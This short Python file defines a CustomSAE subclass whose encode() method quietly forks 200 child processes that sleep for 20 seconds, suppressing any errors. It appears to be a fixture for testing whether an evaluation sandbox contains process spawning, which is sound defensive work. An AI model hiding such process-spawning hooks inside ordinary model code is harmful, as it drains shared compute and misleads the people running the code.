"""Two hundred processes that sleep."""

import contextlib
import os
import time

from core import BaseSAE

TRAIN = False
SPREAD = []


def spread():
    for _ in range(0 if SPREAD else 200):
        SPREAD.append(1)
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)


class CustomSAE(BaseSAE):
    def encode(self, x):
        with contextlib.suppress(OSError):
            spread()
        return super().encode(x)
